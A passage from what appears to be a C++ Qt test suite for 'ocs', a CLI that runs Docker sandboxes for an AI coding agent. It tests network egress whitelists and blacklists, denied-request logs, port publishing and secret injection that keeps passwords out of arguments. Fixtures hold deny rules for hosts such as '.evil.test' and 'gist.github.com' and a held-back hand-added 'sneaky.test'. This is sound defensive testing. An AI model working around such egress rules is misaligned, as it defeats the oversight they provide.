    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.err.contains(QStringLiteral("ocs mise approve")), qPrintable(r.err));
    for (const QStringList &call : engineCalls())
        QVERIFY2(call.value(0) != QLatin1String("build"), qPrintable(call.join(u' ')));
}

void TestCli::rebuild_failurePrintsItsLog()
{
    const QString root = initProject(QStringLiteral("rebuild-fails"));
    QVERIFY(!root.isEmpty());
    respond(QStringLiteral("build"), "Step 1/2 : FROM nowhere\n",
            "pull access denied for nowhere, repository does not exist\n", 1);
    const CliResult r = ocs({QStringLiteral("rebuild")}, root);
    QCOMPARE(r.exitCode, 1);
    const QString log = stateRoot() + QLatin1Char('/') +
                        sandboxIdOf(root, QStringLiteral("rebuild-fails")) +
                        QStringLiteral("/docker-build.log");
    QVERIFY2(QFile::exists(log), qPrintable(log));
    QVERIFY2(readFile(log).contains("pull access denied"), readFile(log).constData());
    // The message, then the log's path (the error's field, printed by the CLI) and a hint.
    QVERIFY2(r.err.contains(QStringLiteral("ocs: The image build failed (exit code 1)")),
             qPrintable(r.err));
    QVERIFY2(r.err.contains(QStringLiteral("\nFull log: ") + log + QLatin1Char('\n')),
             qPrintable(r.err));
    QVERIFY2(r.err.contains(QStringLiteral("ocs rebuild")), qPrintable(r.err));
}

void TestCli::status_json()
{
    respond(QStringLiteral("ps"), "5f1c0e9a8b7d\n");
    respond(QStringLiteral("container-inspect"), R"json([{
        "Id": "5f1c0e9a8b7d6c5e4f3a",
        "Name": "/opencode-sandbox-demo-123abc",
        "State": {"Status": "running", "Running": true},
        "Config": {"Labels": {
            "io.opencode-sandbox.id": "demo-123abc",
            "io.opencode-sandbox.port": "4100",
            "io.opencode-sandbox.project": "/home/dev/demo",
            "io.opencode-sandbox.config-hash": "0011223344556677"}}}])json");
    // A stopped sandbox of the reference scripts: only its state folder.
    QVERIFY(writeFile(stateRoot() + QStringLiteral("/old-456def/opencode-password"), "pw\n"));

    const CliResult r = ocs({QStringLiteral("status"), QStringLiteral("--json")}, m_work);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QJsonParseError perr;
    const QJsonArray list = QJsonDocument::fromJson(r.out.toUtf8(), &perr).array();
    QVERIFY2(perr.error == QJsonParseError::NoError, qPrintable(r.out));
    QCOMPARE(list.size(), 2);
    const QJsonObject running = list.at(0).toObject();
    QCOMPARE(running.value(QStringLiteral("id")).toString(), QStringLiteral("demo-123abc"));
    QCOMPARE(running.value(QStringLiteral("state")).toString(), QStringLiteral("running"));
    QCOMPARE(running.value(QStringLiteral("port")).toInt(), 4100);
    QCOMPARE(running.value(QStringLiteral("url")).toString(),
             QStringLiteral("http://127.0.0.1:4100"));
    QCOMPARE(running.value(QStringLiteral("project")).toString(), QStringLiteral("/home/dev/demo"));
    QCOMPARE(running.value(QStringLiteral("container")).toString(),
             QStringLiteral("opencode-sandbox-demo-123abc"));
    const QJsonObject stopped = list.at(1).toObject();
    QCOMPARE(stopped.value(QStringLiteral("id")).toString(), QStringLiteral("old-456def"));
    QCOMPARE(stopped.value(QStringLiteral("state")).toString(), QStringLiteral("stopped"));
    QCOMPARE(stopped.value(QStringLiteral("url")).toString(), QString());

    const QList<QStringList> calls = engineCalls();
    QVERIFY(calls.contains(QStringList{QStringLiteral("ps"), QStringLiteral("--all"),
                                       QStringLiteral("--quiet"), QStringLiteral("--filter"),
                                       QStringLiteral("label=io.opencode-sandbox.id")}));
    QVERIFY(calls.contains(QStringList{QStringLiteral("container"), QStringLiteral("inspect"),
                                       QStringLiteral("5f1c0e9a8b7d")}));

    // The table says the same.
    const CliResult table = ocs({QStringLiteral("status")}, m_work);
    QCOMPARE(table.exitCode, 0);
    static const QRegularExpression row(
        QStringLiteral("(?m)^demo-123abc +running +4100 +/home/dev/demo$"));
    QVERIFY2(row.match(table.out).hasMatch(), qPrintable(table.out));
    static const QRegularExpression row2(
        QStringLiteral("(?m)^old-456def +stopped +- +\\(unknown\\)$"));
    QVERIFY2(row2.match(table.out).hasMatch(), qPrintable(table.out));
}

void TestCli::missingEngine_exit3()
{
    m_env.insert(QStringLiteral("OCS_ENGINE"), QStringLiteral("/nonexistent/docker"));
    const CliResult r = ocs({QStringLiteral("status")}, m_work);
    QCOMPARE(r.exitCode, 3);
    QVERIFY2(r.err.contains(QStringLiteral("/nonexistent/docker")), qPrintable(r.err));
    QVERIFY2(r.err.contains(QStringLiteral("not installed")), qPrintable(r.err));
    QVERIFY2(r.err.contains(QStringLiteral("OCS_ENGINE")), qPrintable(r.err)); // the fix

    // An engine that is there but not running: exit 3 too, with the fix.
    m_env.insert(QStringLiteral("OCS_ENGINE"), m_fakeDir + QStringLiteral("/fake-docker"));
    respond(QStringLiteral("version"), R"({"Client":{"Version":"24.0.5"}})",
            "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker "
            "daemon running?\n",
            1);
    const QString root = initProject(QStringLiteral("noengine"));
    QVERIFY(!root.isEmpty());
    const CliResult stop = ocs({QStringLiteral("stop")}, root);
    QCOMPARE(stop.exitCode, 3);
    QVERIFY2(stop.err.contains(QStringLiteral("systemctl start docker")), qPrintable(stop.err));
    QCOMPARE(engineCalls().size(), 1); // only `version`, nothing else was tried
}

void TestCli::start_runFails_printsEngineError()
{
    const QString root = initProject(QStringLiteral("start"));
    QVERIFY(!root.isEmpty());
    respond(QStringLiteral("image-inspect"), "0000000000000000\n");
    respond(
        QStringLiteral("run"), {},
        "docker: Error response from daemon: failed to create task: unique-engine-error-7781.\n",
        125);

    // Without --yes (and no terminal) the first start is refused before the engine runs.
    const CliResult refused = ocs({QStringLiteral("start"), QStringLiteral("--detach")}, root);
    QCOMPARE(refused.exitCode, 1);
    QVERIFY2(refused.out.contains(QStringLiteral("First start of this sandbox")),
             qPrintable(refused.all()));
    QVERIFY2(refused.err.contains(QStringLiteral("pass --yes")), qPrintable(refused.all()));
    // The refused start asked for the engine's version, then about the container and, at the
    // same time, the image; the refusal may come before the image's question was even sent
    // (a loaded machine), so that one is optional.
    QStringList refusedSubcommands;
    for (const QStringList &call : engineCalls()) {
        QVERIFY2(call.value(0) != QLatin1String("run"), qPrintable(call.join(u' ')));
        refusedSubcommands << call.value(0);
    }
    QVERIFY2(refusedSubcommands.size() == 2 || refusedSubcommands.size() == 3,
             qPrintable(refusedSubcommands.join(u' ')));
    QCOMPARE(refusedSubcommands.value(0), QStringLiteral("version"));
    QVERIFY2(refusedSubcommands.contains(QStringLiteral("container")),
             qPrintable(refusedSubcommands.join(u' ')));
    QVERIFY2(refusedSubcommands.count(QStringLiteral("image")) <= 1,
             qPrintable(refusedSubcommands.join(u' ')));

    const CliResult r =
        ocs({QStringLiteral("start"), QStringLiteral("--detach"), QStringLiteral("--yes")}, root);
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.err.contains(QStringLiteral("unique-engine-error-7781")), qPrintable(r.all()));
    QVERIFY2(r.err.contains(QStringLiteral("exit code 125")), qPrintable(r.all()));

    const QString id = sandboxIdOf(root, QStringLiteral("start"));
    const QString name = QStringLiteral("opencode-sandbox-") + id;
    const QList<QStringList> calls = engineCalls();
    QStringList subcommands;
    for (const QStringList &c : calls.mid(refusedSubcommands.size()))
        subcommands << c.value(0);
    // The second start went on to `run`, asking about the image again after the question (the
    // answer may come much later).
    QCOMPARE(subcommands.size(), 5);
    QStringList questions = subcommands.mid(1, 3);
    questions.sort();
    QCOMPARE(subcommands.value(0), QStringLiteral("version"));
    QCOMPARE(questions, (QStringList{QStringLiteral("container"), QStringLiteral("image"),
                                     QStringLiteral("image")}));
    QCOMPARE(subcommands.value(4), QStringLiteral("run"));
    const QStringList run = calls.last();
    QCOMPARE(run.last(), name); // the image name
    QVERIFY(run.contains(QStringLiteral("--name")));
    QCOMPARE(run.at(run.indexOf(QStringLiteral("--name")) + 1), name);

    // The password: in the state folder, in the private env file `run` reads (0600, gone
    // afterwards), and neither in the engine CLI's own environment nor in any argument.
    const QString password = QString::fromUtf8(readFile(stateRoot() + QLatin1Char('/') + id +
                                                        QStringLiteral("/opencode-password")))
                                 .trimmed();
    QCOMPARE(password.size(), 48);
    QVERIFY(readFile(m_fakeDir + QStringLiteral("/env.log"))
                .contains("run\tOPENCODE_SERVER_PASSWORD=<unset>\n"));
    const QString envFile = run.value(run.indexOf(QStringLiteral("--env-file")) + 1);
    QVERIFY2(!envFile.isEmpty(), qPrintable(run.join(u' ')));
    const QByteArray envFileLog = readFile(m_fakeDir + QStringLiteral("/envfile.log"));
    QVERIFY2(envFileLog.startsWith(envFile.toUtf8() + "\t600\n"), envFileLog.constData());
    QVERIFY(envFileLog.contains("OPENCODE_SERVER_PASSWORD=" + password.toUtf8() + '\n'));
    QVERIFY(!QFileInfo::exists(envFile));
    QVERIFY(!readFile(m_fakeDir + QStringLiteral("/argv.log")).contains(password.toUtf8()));
    QVERIFY(!r.all().contains(password));
}

void TestCli::stop_callsStopThenRm()
{
    const QString root = initProject(QStringLiteral("stopper"));
    QVERIFY(!root.isEmpty());
    const QString name =
        QStringLiteral("opencode-sandbox-") + sandboxIdOf(root, QStringLiteral("stopper"));
    const CliResult r = ocs({QStringLiteral("stop")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("Stopped ") + name), qPrintable(r.out));
    QCOMPARE(
        engineCalls(),
        (QList<QStringList>{
            {QStringLiteral("version"), QStringLiteral("--format"), QStringLiteral("{{json .}}")},
            {QStringLiteral("stop"), QStringLiteral("--time"), QStringLiteral("10"), name},
            {QStringLiteral("rm"), QStringLiteral("--force"), name}}));
    // Nothing secret was ever passed as an argument (a password exists by now or not at all).
    const QString pwFile = stateRoot() + QLatin1Char('/') +
                           sandboxIdOf(root, QStringLiteral("stopper")) +
                           QStringLiteral("/opencode-password");
    if (QFile::exists(pwFile))
        QVERIFY(!readFile(m_fakeDir + QStringLiteral("/argv.log"))
                     .contains(readFile(pwFile).trimmed()));
}

void TestCli::stop_notRunning()
{
    const QString root = initProject(QStringLiteral("idle"));
    QVERIFY(!root.isEmpty());
    respond(QStringLiteral("stop"), {},
            "Error response from daemon: No such container: opencode-sandbox-idle\n", 1);
    respond(QStringLiteral("rm"), {},
            "Error response from daemon: No such container: opencode-sandbox-idle\n", 1);
    const CliResult r = ocs({QStringLiteral("stop")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("was not running")), qPrintable(r.out));
}

// ---------------------------------------------------------------------------------------
// Live network policy (issue 11)

static ino_t inodeOf(const QString &path)
{
    struct stat st
    {};
    return ::stat(QFile::encodeName(path).constData(), &st) == 0 ? st.st_ino : 0;
}

static QStringList lines(const QByteArray &text)
{
    QStringList out = QString::fromUtf8(text).split(QLatin1Char('\n'));
    if (!out.isEmpty() && out.last().isEmpty())
        out.removeLast();
    return out;
}

QString TestCli::networkProject(const QString &name, const QByteArray &rest)
{
    const QString root = initProject(name);
    if (root.isEmpty())
        return {};
    if (!writeFile(root + QLatin1Char('/') + ConfigName,
                   "# the team's settings (this comment stays)\nsandbox-name: " + name.toUtf8() +
                       '\n' + rest))
        return {};
    return root;
}

void TestCli::policyCheck()
{
    const QString root =
        networkProject(QStringLiteral("checked"), "http-domain-whitelist:\n  - .github.com\n"
                                                  "http-domain-blacklist:\n  - gist.github.com\n");
    QVERIFY(!root.isEmpty());
    const auto check = [&](const QStringList &args) {
        return ocs(QStringList{QStringLiteral("policy"), QStringLiteral("check")} + args, root);
    };
    CliResult r = check({QStringLiteral("api.github.com")});
    QCOMPARE(r.exitCode, 0);
    QCOMPARE(r.out.trimmed(), QStringLiteral("api.github.com: allowed (whitelist .github.com)"));
    r = check({QStringLiteral("gist.github.com")});
    QCOMPARE(r.exitCode, 1);
    QCOMPARE(r.out.trimmed(),
             QStringLiteral("gist.github.com: denied (blacklist gist.github.com)"));
    r = check({QStringLiteral("example.com")});
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.out.contains(QStringLiteral("denied (not whitelisted)")), qPrintable(r.all()));
    r = check({QStringLiteral("api.github.com"), QStringLiteral("--port"), QStringLiteral("80")});
    QCOMPARE(r.exitCode, 0);
    r = check({QStringLiteral("api.github.com"), QStringLiteral("--port"), QStringLiteral("22")});
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.out.contains(QStringLiteral("denied (port)")), qPrintable(r.all()));
    r = check({QStringLiteral("140.82.112.3")});
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.out.contains(QStringLiteral("denied (ip address)")), qPrintable(r.all()));
    QCOMPARE(ocs({QStringLiteral("policy"), QStringLiteral("frob"), QStringLiteral("x.test")}, root)
                 .exitCode,
             2);
    QCOMPARE(
        check({QStringLiteral("x.test"), QStringLiteral("--port"), QStringLiteral("no")}).exitCode,
        2);
}

void TestCli::allowDeny_editTheConfigInPlaceAndThePolicyFiles()
{
    const QString name = QStringLiteral("editable");
    const QString root = networkProject(
        name, "http-domain-whitelist:\n  # our API\n  - api.example.test\n  - .github.com\n");
    QVERIFY(!root.isEmpty());
    const QString config = root + QLatin1Char('/') + ConfigName;
    const ino_t inode = inodeOf(config);

    // Stopped: the files are written for the next start.
    CliResult r = ocs({QStringLiteral("allow"), QStringLiteral("Pkg.Example.ORG")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("+ whitelist: pkg.example.org")), qPrintable(r.out));
    QVERIFY2(r.out.contains(QStringLiteral("applies at the next start")), qPrintable(r.out));
    QByteArray text = readFile(config);
    QVERIFY2(text.contains("# the team's settings (this comment stays)") &&
                 text.contains("# our API") && text.contains("- pkg.example.org"),
             text.constData());
    QCOMPARE(inodeOf(config), inode); // in place: a running sandbox's mount stays attached
    QCOMPARE(lines(readFile(policyFile(root, name, "whitelist"))),
             (QStringList{QStringLiteral("api.example.test"), QStringLiteral(".github.com"),
                          QStringLiteral("pkg.example.org")}));
    QCOMPARE(lines(readFile(policyFile(root, name, "blacklist"))), QStringList{});
    QVERIFY(QFileInfo(policyFile(root, name, "whitelist")).permissions() & QFile::ReadOther);

    // Running: applied live. A host a wider entry allows goes to the blacklist.
    respond(QStringLiteral("container-inspect"), "running 4242\n");
    r = ocs({QStringLiteral("deny"), QStringLiteral("gist.github.com")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("+ blacklist: gist.github.com")), qPrintable(r.out));
    QVERIFY2(r.out.contains(QStringLiteral("applied to the running sandbox")), qPrintable(r.out));
    QCOMPARE(lines(readFile(policyFile(root, name, "blacklist"))),
             QStringList{QStringLiteral("gist.github.com")});
    QVERIFY(readFile(config).contains("http-domain-blacklist:"));
    r = ocs({QStringLiteral("policy"), QStringLiteral("check"), QStringLiteral("gist.github.com")},
            root);
    QCOMPARE(r.exitCode, 1);

    // An exact entry is removed.
    r = ocs({QStringLiteral("deny"), QStringLiteral("api.example.test")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("- whitelist: api.example.test")), qPrintable(r.out));
    QVERIFY(!readFile(policyFile(root, name, "whitelist")).contains("api.example.test"));

    // Allowing a blacklisted host takes it off the blacklist; with --subdomains the domain
    // entry replaces the entries it covers.
    r = ocs({QStringLiteral("allow"), QStringLiteral("gist.github.com")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("- blacklist: gist.github.com")), qPrintable(r.out));
    QCOMPARE(lines(readFile(policyFile(root, name, "blacklist"))), QStringList{});
    r = ocs(
        {QStringLiteral("allow"), QStringLiteral("example.org"), QStringLiteral("--subdomains")},
        root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QCOMPARE(lines(readFile(policyFile(root, name, "whitelist"))),
             (QStringList{QStringLiteral(".github.com"), QStringLiteral(".example.org")}));
    r = ocs({QStringLiteral("allow"), QStringLiteral("deep.pkg.example.org")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("already allowed")), qPrintable(r.out));

    const auto loaded = ConfigFile::load(config);
    QVERIFY2(loaded.ok(), qPrintable(loaded.errorSummary()));
    QCOMPARE(loaded.config->httpDomainWhitelist,
             (QStringList{QStringLiteral(".github.com"), QStringLiteral(".example.org")}));
    QCOMPARE(inodeOf(config), inode);
}

// Issue 15: `ocs ports publish|unpublish` edit published-ports in place (comments kept) and say
// that a restart applies it; what cannot be published is refused, changing nothing.
void TestCli::ports_publishAndUnpublishEditTheConfig()
{
    const QString root = networkProject(QStringLiteral("ported"), "# ports\n");
    QVERIFY(!root.isEmpty());
    const QString config = root + QLatin1Char('/') + ConfigName;
    const ino_t inode = inodeOf(config);
    CliResult r =
        ocs({QStringLiteral("ports"), QStringLiteral("publish"), QStringLiteral("3000")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("Published port 3000 in ")), qPrintable(r.out));
    QVERIFY2(r.out.contains(QStringLiteral("applies at its next start")), qPrintable(r.out));
    r = ocs({QStringLiteral("ports"), QStringLiteral("publish"), QStringLiteral("5173")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QByteArray text = readFile(config);
    QVERIFY2(text.contains("# the team's settings (this comment stays)") &&
                 text.contains("# ports") && text.contains("published-ports:") &&
                 text.contains("- 3000") && text.contains("- 5173"),
             text.constData());
    QCOMPARE(inodeOf(config), inode);
    r = ocs({QStringLiteral("ports"), QStringLiteral("publish"), QStringLiteral("3000")}, root);
    QVERIFY2(r.exitCode == 0 && r.out.contains(QStringLiteral("was published already")),
             qPrintable(r.all()));
    r = ocs({QStringLiteral("ports")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("3000  (published at the next start)")) &&
                 r.out.contains(QStringLiteral("5173  (published at the next start)")),
             qPrintable(r.out));

    // Refused, nothing changed: not a port, the web UI's, OpenCode's own.
    const QByteArray before = readFile(config);
    for (const QString &bad : {QStringLiteral("http"), QStringLiteral("70000"),
                               QStringLiteral("4096"), QStringLiteral("4097")}) {
        r = ocs({QStringLiteral("ports"), QStringLiteral("publish"), bad}, root);
        QVERIFY2(r.exitCode == 1 && r.err.contains(QStringLiteral("published-ports: '") + bad),
                 qPrintable(r.all()));
    }
    QCOMPARE(readFile(config), before);
    QCOMPARE(
        ocs({QStringLiteral("ports"), QStringLiteral("open"), QStringLiteral("1")}, root).exitCode,
        2);

    r = ocs({QStringLiteral("ports"), QStringLiteral("unpublish"), QStringLiteral("3000")}, root);
    QVERIFY2(r.exitCode == 0 && r.out.contains(QStringLiteral("Unpublished port 3000")),
             qPrintable(r.all()));
    text = readFile(config);
    QVERIFY2(!text.contains("- 3000") && text.contains("- 5173") && text.contains("# ports"),
             text.constData());
}

void TestCli::allowDeny_refuseWhatTheyCannotDo()
{
    const QString name = QStringLiteral("refusing");
    const QString root = networkProject(name, "http-domain-whitelist:\n  - .github.com\n"
                                              "http-domain-blacklist:\n  - .evil.test\n");
    QVERIFY(!root.isEmpty());
    const QString config = root + QLatin1Char('/') + ConfigName;
    const QByteArray before = readFile(config);
    for (const QString &bad : {QStringLiteral("https://x.test/path"), QStringLiteral("10.0.0.1"),
                               QStringLiteral("a_b.test"), QStringLiteral("x.test:443")}) {
        const CliResult r = ocs({QStringLiteral("allow"), bad}, root);
        QCOMPARE(r.exitCode, 1);
        QVERIFY2(r.err.contains(QStringLiteral("not a valid host")) &&
                     r.err.contains(QStringLiteral("such as api.example.com")),
                 qPrintable(r.err));
    }
    // A wider blacklist entry keeps the host denied: nothing is changed.
    CliResult r = ocs({QStringLiteral("allow"), QStringLiteral("a.evil.test")}, root);
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.err.contains(QStringLiteral(".evil.test")), qPrintable(r.err));
    QCOMPARE(readFile(config), before);
    QVERIFY(!QFile::exists(policyFile(root, name, "whitelist")));
    QCOMPARE(ocs({QStringLiteral("allow")}, root).exitCode, 2);

    // An invalid config: its problem with file and line.
    QVERIFY(writeFile(config, "sandbox-name: refusing\nhttp-domain-whitelist:\n  - 'a b'\n"));
    r = ocs({QStringLiteral("allow"), QStringLiteral("x.test")}, root);
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.err.contains(ConfigName + QStringLiteral(":3:")), qPrintable(r.err));
    QVERIFY(!readFile(config).contains("x.test"));
}

void TestCli::allow_countsAsReviewed_handAddedEntriesWait()
{
    const QString name = QStringLiteral("reviewed");
    const QString root = networkProject(name, "http-domain-whitelist:\n  - .github.com\n");
    QVERIFY(!root.isEmpty());
    const QString id = sandboxIdOf(root, name);
    const QString stateFile =
        stateRoot() + QLatin1Char('/') + id + QStringLiteral("/ocs-state.json");
    QVERIFY(QDir().mkpath(QFileInfo(stateFile).path()));
    // The last start approved .github.com; since then someone added sneaky.test by hand.
    QVERIFY(writeFile(stateFile,
                      R"({"projectRoot":")" + root.toUtf8() +
                          R"(","lastStartedConfig":{"http-domain-whitelist":[".github.com"],)"
                          R"("host-ports":[],"env-passthrough":[]}})"));
    const QString config = root + QLatin1Char('/') + ConfigName;
    QVERIFY(writeFile(config, "sandbox-name: reviewed\nhttp-domain-whitelist:\n  - .github.com\n"
                              "  - sneaky.test\n"));
    respond(QStringLiteral("container-inspect"), "running 4242\n");
    const CliResult r = ocs({QStringLiteral("allow"), QStringLiteral("api.example.test")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("not applied live")) &&
                 r.out.contains(QStringLiteral("sneaky.test")),
             qPrintable(r.out));
    // Live: the reviewed entry and the one allowed now; the hand-added one waits.
    QCOMPARE(lines(readFile(policyFile(root, name, "whitelist"))),
             (QStringList{QStringLiteral(".github.com"), QStringLiteral("api.example.test")}));
    const QJsonObject record = QJsonDocument::fromJson(readFile(stateFile)).object();
    QCOMPARE(record.value(QStringLiteral("lastStartedConfig"))
                 .toObject()
                 .value(QStringLiteral("http-domain-whitelist"))
                 .toArray()
                 .toVariantList(),
             (QVariantList{QStringLiteral(".github.com"), QStringLiteral("api.example.test")}));
    QCOMPARE(record.value(QStringLiteral("projectRoot")).toString(), root);
}

void TestCli::blocked_groupsTheRecordedLogByDomain()
{
    const QString name = QStringLiteral("watched");
    const QString root = networkProject(name, "http-domain-whitelist:\n  - example.com\n");
    QVERIFY(!root.isEmpty());
    CliResult r = ocs({QStringLiteral("blocked")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("No denied requests")), qPrintable(r.out));

    const QString logDir =
        stateRoot() + QLatin1Char('/') + sandboxIdOf(root, name) + QStringLiteral("/network/log");
    QVERIFY(QDir().mkpath(logDir));
    for (const char *f : {"decisions.1.jsonl", "decisions.jsonl", "counts.json"})
        QVERIFY(
            QFile::copy(QStringLiteral(OCS_DECISION_LOG_DATA "/rotated/") + QString::fromLatin1(f),
                        logDir + QLatin1Char('/') + QString::fromLatin1(f)));
    r = ocs({QStringLiteral("blocked")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    const QStringList out = lines(r.out.toUtf8());
    // Domains, the most recent denial first; api.github.com was never denied.
    QStringList domainLines;
    for (const QString &l : out) {
        if (!l.startsWith(QLatin1Char(' ')) && l.contains(QStringLiteral(" denied, last ")))
            domainLines << l.section(QStringLiteral(", last"), 0, 0);
    }
    QCOMPARE(domainLines, (QStringList{QStringLiteral("example.com  1 denied"),
                                       QStringLiteral("x.test  7 denied"),
                                       QStringLiteral("tracker.test  41 denied")}));
    QVERIFY2(r.out.contains(QStringLiteral("  tracker.test  41 denied, last ")) &&
                 r.out.contains(QStringLiteral("(not whitelisted)")) &&
                 r.out.contains(QStringLiteral("(now allowed: whitelist example.com)")),
             qPrintable(r.out));
    QVERIFY(!r.out.contains(QStringLiteral("api.github.com")));

    r = ocs({QStringLiteral("blocked"), QStringLiteral("--json")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    const QStringList json = lines(r.out.toUtf8());
    QCOMPARE(json.size(), 3);
    const QJsonObject tracker = QJsonDocument::fromJson(json.at(2).toUtf8()).object();
    QCOMPARE(tracker.value(QStringLiteral("host")).toString(), QStringLiteral("tracker.test"));
    QCOMPARE(tracker.value(QStringLiteral("domain")).toString(), QStringLiteral("tracker.test"));
    QCOMPARE(tracker.value(QStringLiteral("denied")).toInt(), 41);
    QCOMPARE(tracker.value(QStringLiteral("last")).toString(),
             QStringLiteral("2026-12-03T17:00:02.000Z"));
    QCOMPARE(tracker.value(QStringLiteral("rule")).toString(), QStringLiteral("not whitelisted"));
}

void TestCli::blocked_follow()
{
    const QString name = QStringLiteral("followed");
    const QString root = networkProject(name, "http-domain-whitelist:\n  - example.com\n");
    QVERIFY(!root.isEmpty());
    const QString log = stateRoot() + QLatin1Char('/') + sandboxIdOf(root, name) +
                        QStringLiteral("/network/log/decisions.jsonl");
    QVERIFY(QDir().mkpath(QFileInfo(log).path()));
    QVERIFY(writeFile(log, R"({"time":"2026-12-03T18:00:00.000Z","decision":"denied",)"
                           R"("host":"before.test","port":443,"method":"CONNECT",)"
                           R"("rule":"not whitelisted"})"
                           "\n"));
    QProcess p;
    p.setProgram(QStringLiteral(OCS_BINARY));
    p.setArguments(
        {QStringLiteral("blocked"), QStringLiteral("--follow"), QStringLiteral("--json")});
    p.setWorkingDirectory(root);
    p.setProcessEnvironment(m_env);
    p.start();
    QVERIFY(p.waitForStarted(10000));
    QByteArray err;
    QTRY_VERIFY_WITH_TIMEOUT((err += p.readAllStandardError()).contains("Following"), 20000);
    QFile f(log);
    QVERIFY(f.open(QIODevice::Append));
    f.write(R"({"time":"2026-12-03T18:00:01.000Z","decision":"allowed","host":"example.com",)"
            R"("port":443,"method":"CONNECT","rule":"whitelist example.com"})"
            "\n"
            R"({"time":"2026-12-03T18:00:02.000Z","decision":"denied","host":"new.test",)"
            R"("port":443,"method":"CONNECT","rule":"not whitelisted"})"
            "\n");
    f.close();
    QByteArray out;
    QTRY_VERIFY_WITH_TIMEOUT((out += p.readAllStandardOutput()).contains("new.test"), 20000);
    ::kill(pid_t(p.processId()), SIGINT);
    QVERIFY(p.waitForFinished(10000));
    QCOMPARE(p.exitCode(), 0);
    out += p.readAllStandardOutput();
    // Only what came after the start, and only the denied one.
    QCOMPARE(lines(out),
             QStringList{QStringLiteral(
                 R"({"time":"2026-12-03T18:00:02.000Z","decision":"denied","host":"new.test",)"
                 R"("port":443,"method":"CONNECT","rule":"not whitelisted"})")});
}

// ---------------------------------------------------------------------------------------
// ocs secret (issue 12): names and sources, never values.

void TestCli::secret_sourcesWithoutKeychain()
{
    const QString root = networkProject(QStringLiteral("sec"),
                                        "http-domain-whitelist: [api.anthropic.com, "
                                        "api.example.test]\n"
                                        "injected-secrets:\n  ANTHROPIC_API_KEY:\n"
                                        "  MINE: {hosts: [api.example.test], header: x-key}\n");
    QVERIFY(!root.isEmpty());
    m_env.insert(QStringLiteral("E2E_HOST_SECRET"), QStringLiteral("value-in-host-env"));
    CliResult r =
        ocs({QStringLiteral("secret"), QStringLiteral("set"), QStringLiteral("ANTHROPIC_API_KEY"),
             QStringLiteral("--from-env"), QStringLiteral("E2E_HOST_SECRET")},
            root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("host variable E2E_HOST_SECRET")), qPrintable(r.all()));
    r = ocs({QStringLiteral("secret"), QStringLiteral("set"), QStringLiteral("MINE"),
             QStringLiteral("--shared"), QStringLiteral("--from-command"),
             QStringLiteral("printf %s%s from command"), QStringLiteral("--cache"),
             QStringLiteral("60")},
            root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));

    r = ocs({QStringLiteral("secret"), QStringLiteral("list")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    const QStringList lines = r.out.trimmed().split(QLatin1Char('\n'));
    QCOMPARE(lines.size(), 3);
    QVERIFY2(lines[0].startsWith(QStringLiteral("NAME")), qPrintable(r.out));
    QVERIFY2(lines[1].contains(QStringLiteral("ANTHROPIC_API_KEY")) &&
                 lines[1].contains(QStringLiteral("this project")) &&
                 lines[1].contains(QStringLiteral("host variable E2E_HOST_SECRET")) &&
                 lines[1].contains(QStringLiteral("api.anthropic.com")),
             qPrintable(r.out));
    QVERIFY2(lines[2].contains(QStringLiteral("MINE")) &&
                 lines[2].contains(QStringLiteral("all projects")) &&
                 lines[2].contains(QStringLiteral("command `printf %s%s from command`")) &&
                 lines[2].contains(QStringLiteral("api.example.test")),
             qPrintable(r.out));

    r = ocs({QStringLiteral("secret"), QStringLiteral("list"), QStringLiteral("--json")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    const QJsonObject top = QJsonDocument::fromJson(r.out.toUtf8()).object();
    const QJsonArray list = top.value(QStringLiteral("secrets")).toArray();
    QCOMPARE(list.size(), 2);
    const QJsonObject a = list[0].toObject();
    QCOMPARE(a.value(QStringLiteral("name")).toString(), QStringLiteral("ANTHROPIC_API_KEY"));
    QCOMPARE(a.value(QStringLiteral("scope")).toString(), QStringLiteral("project"));
    QCOMPARE(a.value(QStringLiteral("source")).toString(), QStringLiteral("environment"));
    QCOMPARE(a.value(QStringLiteral("variable")).toString(), QStringLiteral("E2E_HOST_SECRET"));
    QCOMPARE(a.value(QStringLiteral("set")).toBool(), true); // set in ocs's environment
    QCOMPARE(a.value(QStringLiteral("hosts")).toArray(),
             QJsonArray{QStringLiteral("api.anthropic.com")});
    const QJsonObject m = list[1].toObject();
